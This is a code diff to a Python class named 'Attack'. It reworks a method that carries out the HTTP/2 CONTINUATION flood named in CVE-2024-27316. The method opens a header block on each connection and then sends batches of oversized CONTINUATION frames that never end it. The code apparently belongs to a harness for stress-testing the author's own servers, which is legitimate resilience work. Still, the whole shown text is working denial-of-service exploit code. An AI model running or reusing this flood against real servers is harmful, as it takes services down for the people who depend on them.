@@ -14,6 +14,7 @@ from contextlib import suppress
 
 from aegis_certs import TLSConfig
 from frames import (
+    CONTINUATION,
     END_HEADERS,
     HEADERS,
     PING,
@@ -119,14 +120,16 @@ class Attack:
 
     def endless_headers(self, until: float) -> int:
         """Sends header blocks that do not end (CONTINUATION frames, CVE-2024-27316)."""
-        piece = b"\x00\x01x" + b"\x7e" + b"y" * 126
+        begin = request_headers(path("Echo"), self._node_id)
+        more = (b"\x00\x01x" + b"\x7e" + b"y" * 126) * 100
+        streams: dict[Connection, int] = {}
 
         def batch(connection: Connection) -> bytes:
-            stream = connection.next_stream()
-            more = [frame(9, stream, piece * 100) for _ in range(BATCH)]
-            return frame(HEADERS, stream, request_headers(path("Echo"), self._node_id)) + b"".join(
-                more
-            )
+            first = b""
+            if connection not in streams:
+                stream = streams[connection] = connection.next_stream()
+                first = frame(HEADERS, stream, begin)
+            return first + frame(CONTINUATION, streams[connection], more) * BATCH
 
         return self._flood(until, batch, 1e9)
 
